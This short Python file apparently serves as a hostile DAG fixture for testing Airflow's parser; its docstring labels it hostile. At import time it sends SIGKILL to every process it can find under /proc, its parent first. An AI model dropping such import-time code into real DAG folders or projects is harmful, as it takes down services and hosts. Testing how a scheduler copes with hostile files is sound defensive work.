"""Hostile: kills every process it can reach as Airflow imports it (its parent first)."""

import os
import signal

from airflow.sdk import dag  # noqa: F401

for pid in {os.getppid(), *(int(p) for p in os.listdir("/proc") if p.isdigit())} - {os.getpid(), 0}:
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
os.kill(os.getppid(), signal.SIGKILL)
